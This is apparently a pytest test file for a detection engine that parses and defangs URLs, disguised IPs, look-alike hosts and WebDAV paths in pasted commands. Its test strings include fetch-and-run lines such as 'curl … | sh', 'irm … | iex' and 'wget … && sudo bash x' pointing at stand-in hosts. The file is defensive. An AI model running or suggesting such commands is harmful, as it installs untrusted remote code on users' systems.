"""Indicators: URLs the way a downloader reads them, IPs in disguise, UNC and WebDAV paths."""

import pytest

from app.detection import Context, Engine, PasteTarget
from app.detection.indicators import (
    PARSED_KEPT,
    _parse_url,
    defang,
    defang_host,
    find_unc_paths,
    find_urls,
    is_argument_url,
    parse_ip,
    parse_url,
    refang,
)


def test_userinfo_is_separated_from_the_real_host() -> None:
    url = parse_url("https://sh.rustup.rs@evil.test/x.sh")
    assert url is not None
    assert url.host == "evil.test" and url.userinfo == "sh.rustup.rs"


@pytest.mark.parametrize(
    ("host", "dotted"),
    [
        ("192.0x00.2.1", "192.0.2.1"),
        ("0xC0.0x00.0x02.0x01", "192.0.2.1"),
        ("0300.0.02.01", "192.0.2.1"),
        ("3221225985", "192.0.2.1"),
        ("203.0.113.7", "203.0.113.7"),
    ],
)
def test_ip_in_every_notation(host: str, dotted: str) -> None:
    parsed = parse_ip(host)
    assert parsed is not None and parsed[0] == dotted


def test_names_are_not_ips() -> None:
    assert parse_ip("example.com") is None
    assert parse_ip("1.2.3.4.5") is None
    for signed in ("-1", "+1", "1.-2.3.4", "1_0"):  # found by Hypothesis: int() takes them
        assert parse_ip(signed) is None, signed
    assert parse_url("http://-1/x") is not None


def test_defanged_and_backslash_urls_are_read() -> None:
    (url,) = find_urls("rundll32 davclnt.dll,DavSetCookie hxxps://stage[.]example/x")
    assert url.host == "stage.example" and url.defanged
    (url,) = find_urls(r"msiexec -package http:\\evil.test\temp\x /q")
    assert url.host == "evil.test" and url.backslashes


def test_a_nul_escape_ends_an_address_and_is_no_backslash_path() -> None:
    # a test of null-byte handling (CPython's test_ssl): the escape is the string literal's
    url = parse_url(r"http://null.python.org\x00http://example.org")
    assert url is not None and url.host == "null.python.org"
    assert not url.backslashes and not url.defanged
    # a folder named x64 after a backslash host is still a backslash path
    url = parse_url(r"http:\\evil.test\x64\setup.msi")
    assert url is not None and url.backslashes and url.path == "/x64/setup.msi"


def test_bare_hosts_after_downloaders_but_not_output_files() -> None:
    hosts = [u.host for u in find_urls("irm get.scoop.sh | iex")]
    assert hosts == ["get.scoop.sh"]
    hosts = [u.host for u in find_urls("curl -fsSL https://get.docker.com -o get-docker.sh")]
    assert hosts == ["get.docker.com"]
    # curl's -o run together with its other short options names the file too
    text = "curl -fsSLo install.sh https://get.vendor.dev/install.sh && sh install.sh"
    assert [u.host for u in find_urls(text)] == ["get.vendor.dev"]


def test_url_count_is_capped() -> None:
    text = " ".join(f"https://h{i}.example/p" for i in range(10_000))
    assert len(find_urls(text)) == 64


def test_webdav_unc_paths() -> None:
    (path,) = find_unc_paths(r"pushd \\files.evil.test@SSL\share\x & run")
    assert path.host == "files.evil.test" and path.webdav


def test_defang_makes_links_unclickable() -> None:
    shown = defang("curl https://evil.test/x.sh")
    assert "https://" not in shown and "hxxps://evil[.]test" in shown


def test_defang_leaves_javascript_member_access_alone() -> None:
    code = 'var s = document.createElement("script"); s.src = location.href; e.id = 1'
    assert defang(code) == code


def test_defang_brackets_the_host_of_a_url_but_not_its_path() -> None:
    assert defang("https://captcha.example/verify.html") == "hxxps://captcha[.]example/verify.html"


def test_defang_shows_a_url_inside_another_urls_path_once() -> None:
    # a redirector's query carries the real payload URL: both hosts bracketed, nothing repeated
    assert (
        defang("see https://a.test/go?u=http://b.test/x/y.ps1 now")
        == "see hxxps://a[.]test/go?u=hxxp://b[.]test/x/y.ps1 now"
    )
    assert (
        defang("https://a.test/https://b.test/x https://c.test/q")
        == "hxxps://a[.]test/hxxps://b[.]test/x hxxps://c[.]test/q"
    )


def test_defang_shows_non_ascii_hosts_as_punycode() -> None:
    # Cyrillic а and р: a look-alike of paypal.com
    shown = defang("iwr https://\u0440\u0430y\u0440\u0430l.com/a | iex; irm \u0440\u0430y.com")
    assert "\u0440" not in shown and "\u0430" not in shown
    assert "hxxps://xn--" in shown and "[.]com/a" in shown
    assert "irm xn--" in shown and shown.endswith("[.]com")


def test_defang_brackets_bare_ip_addresses() -> None:
    assert defang("curl 10.0.0.5/x | sh") == "curl 10[.]0[.]0[.]5/x | sh"
    assert defang("version 1.2.3.999") == "version 1.2.3.999"  # not an address


def test_defang_brackets_bare_hosts_on_the_cheap_domains_lures_use() -> None:
    # the top-level domains fake-CAPTCHA campaigns register by the hundred, written bare
    for tld in ("lat", "cam", "mom", "homes", "autos", "hair", "skin", "bar", "club", "pics"):
        assert defang(f"irm verify-human.{tld} | iex") == f"irm verify-human[.]{tld} | iex"
    # and a word that only looks like one in code is left alone
    assert defang("el.style.display = 'none'; el.host") == "el.style.display = 'none'; el.host"


def test_defang_brackets_bare_host_names() -> None:
    assert defang("irm get.scoop.sh | iex") == "irm get[.]scoop[.]sh | iex"


@pytest.mark.parametrize(
    ("text", "argument"),
    [
        ("curl -x http://proxy.corp.example:3128 https://get.vendor.dev", True),
        ("export HTTPS_PROXY=http://proxy.corp.example:3128", True),
        # a variable that holds the address and is used later stages the download
        ('URL=https://get.vendor.dev/install.sh && curl -fsSO "$URL" && bash install.sh', False),
        ("u=http://203.0.113.9/x.sh; curl -s ${u} | sh", False),
        ("$u='https://get.vendor.dev/i.ps1'; irm $u | iex", False),
        # ...and one that is never used is a setting
        ("BASE_URL=https://api.vendor.dev npm start", True),
    ],
)
def test_an_address_is_a_setting_unless_its_variable_is_used(text: str, argument: bool) -> None:
    url = find_urls(text)[0]
    assert is_argument_url(text, url) is argument, (text, url.raw)


def test_a_known_host_is_defanged_whatever_its_top_level_domain(engine: Engine) -> None:
    """`defang` leaves word.word alone unless it knows the top-level domain (code stays
    readable); a URL's or a page's host is a host, so the summary and the indicators bracket
    it all the same (rt.cx, a short host under a country code defang does not list)."""
    assert defang("rt.cx") == "rt.cx"
    assert defang_host("rt.cx") == "rt[.]cx"
    assert defang_host("dl.quarry.gg") == "dl[.]quarry[.]gg"
    assert defang_host("") == ""
    verdict = engine.analyze(
        "wget -qO x https://rt.cx/x4 && sudo bash x",
        Context(source="https://www.quarry.cx/install", target=PasteTarget.TERMINAL),
    )
    assert "rt.cx" not in verdict.summary and "quarry.cx" not in verdict.summary, verdict.summary
    assert "rt[.]cx" in verdict.summary, verdict.summary
    domains = [i.display for i in verdict.indicators if i.kind == "domain"]
    assert domains == ["rt[.]cx"], domains


def _parse_url_as_it_was(raw: str) -> tuple[str, bool]:
    """What parse_url read as the address and whether it was defanged, before it skipped
    refang for an address with no bracket and lower-cased only its first four characters."""
    text = refang(raw.strip().rstrip(".,;:!?)]}'\""))
    return text, text != raw.strip().rstrip(".,;:!?)]}'\"") or raw.lower().startswith("hxxp")


def test_parse_url_reads_every_address_as_it_did_with_refang_everywhere() -> None:
    import random
    import sys

    # only H, X and P lower-case to h, x and p, and only U+0130 to more than one character
    assert all(
        chr(c) in "hxpHXP" or chr(c).lower()[:1] not in "hxp" for c in range(sys.maxunicode + 1)
    )
    rng = random.Random(23)
    parts = ["h", "H", "x", "X", "p", "tt", "s", "://", ":\\\\", "[:]", "[.]", "(.)", "[dot]",
             ".", "(", "[", "]", ")", "/", "?", "#", "@", " ", "İ", "a", "example", "com", "'"]  # fmt: skip
    for _ in range(20000):
        raw = "".join(rng.choice(parts) for _ in range(rng.randint(1, 12)))
        text, defanged = _parse_url_as_it_was(raw)
        written = raw.strip().rstrip(".,;:!?)]}'\"")
        if "[" not in written and "(" not in written:
            assert text == written, raw  # refang, skipped, would have changed nothing
        parsed = parse_url(raw)
        if parsed is not None:
            assert parsed.defanged is defanged, raw


def test_an_address_with_no_place_in_a_text_is_read_once_and_kept() -> None:
    """parse_url keeps the newest readings of addresses with no place in a text (a verdict's
    checks read its page a dozen times): the same reading, equal to a fresh one; an address
    found in a text keeps where it stood."""
    page = "https://docs.example.org/en/install?x=1"
    first = parse_url(page)
    assert first is not None and parse_url(page) is first
    assert first == _parse_url(page, -1)
    placed = parse_url(page, 7)
    assert placed is not None and placed.start == 7 and placed is not parse_url(page, 7)
    for k in range(PARSED_KEPT + 1):
        parse_url(f"https://h{k}.example/")
    assert parse_url(page) is not first and parse_url(page) == first  # forgotten, read again
